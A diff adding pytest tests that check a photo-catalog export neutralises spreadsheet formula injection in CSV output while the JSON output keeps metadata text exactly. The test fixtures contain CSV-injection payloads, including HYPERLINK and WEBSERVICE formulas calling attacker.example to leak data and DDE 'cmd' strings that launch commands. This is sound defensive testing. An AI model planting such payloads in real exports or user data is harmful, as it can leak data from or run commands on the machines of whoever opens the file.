@@ -163,3 +163,60 @@ def test_verify_reports_missing_and_altered_files(catalog: Catalog, approved: di
     assert report.unreferenced == [orphan]
     assert report.checked == 3 + 4  # three originals, four colorization outputs
     assert hashlib.sha256(b"bit rot").hexdigest() != original
+
+
+FORMULAS = {  # metadata field -> text a spreadsheet would run as a formula
+    "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full scan")',
+    "description": "@cmd|' /C calc'!A0",
+    "place": "+1+cmd|' /C calc'!A0",
+    "source": "-2+3+cmd|' /C calc'!A0",
+    "rights": "=1+1",
+    "date_text": "@SUM(1+1)",
+}
+CSV_COLUMN = {"date_text": "date"}
+
+
+def test_metadata_csv_neutralises_formulas_and_json_keeps_the_exact_text(
+    catalog: Catalog, catalog_users, make_scan, make_colorized, tmp_path: Path  # type: ignore[no-untyped-def]
+) -> None:
+    curator, reviewer = catalog_users["curator"], catalog_users["reviewer"]
+    note, review_note = '=WEBSERVICE("http://attacker.example/")', "-1+cmd|' /C calc'!A0"
+    with catalog.session() as session:
+        outcome = db.import_bytes(
+            session=session, store=catalog.store, settings=catalog.settings, actor=curator, filename="evil.png",
+            data=make_scan(7), metadata={**FORMULAS, "identifier": "ACC-7"},
+        )  # fmt: skip
+        assert outcome.status == "imported", outcome.message
+        candidate = db.create_colorization(
+            session=session, store=catalog.store, settings=catalog.settings, actor=curator, photo_id=outcome.photo_id,
+            hints={"points": [{"x": 5, "y": 6, "color": "#a03020"}]}, engine="classical",
+            output_png=make_colorized(48, 32, (20, 90, 40)), provenance_note=note,
+        )  # fmt: skip
+        db.approve_colorization(
+            session=session, settings=catalog.settings, actor=reviewer, colorization_id=candidate.id, note=review_note
+        )
+    report = _export(catalog, tmp_path / "export.zip")
+    with zipfile.ZipFile(report.path) as archive:
+        (csv_name,) = [name for name in archive.namelist() if name.endswith("data/metadata.csv")]
+        (json_name,) = [name for name in archive.namelist() if name.endswith("data/metadata.json")]
+        (row,) = list(csv.DictReader(io.StringIO(archive.read(csv_name).decode("utf-8"), newline="")))
+        (record,) = json.loads(archive.read(json_name))["photos"]
+    for field, text in FORMULAS.items():
+        column = CSV_COLUMN.get(field, field)
+        assert row[column] == "'" + text, column  # a spreadsheet shows it as text and never runs it
+        assert record["photo"][column] == text  # metadata.json is unchanged: the exact values
+    assert row["provenance_note"] == "'" + note and record["colorization"]["provenance_note"] == note
+    assert row["review_note"] == "'" + review_note and record["colorization"]["review_note"] == review_note
+    assert row["identifier"] == "ACC-7" and row["photo_id"] == str(record["photo"]["id"])  # other cells as they were
+    assert json.loads(row["hints"]) == record["colorization"]["hints"]
+
+
+@pytest.mark.parametrize(
+    "value,cell",
+    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+     ("plain", "plain"), (" =1", " =1"), ("", ""), (1950, 1950), (-3, -3), (None, None)],
+)
+def test_csv_safe_follows_owasp(value, cell) -> None:  # type: ignore[no-untyped-def]
+    from db.export import csv_safe
+
+    assert csv_safe(value) == cell
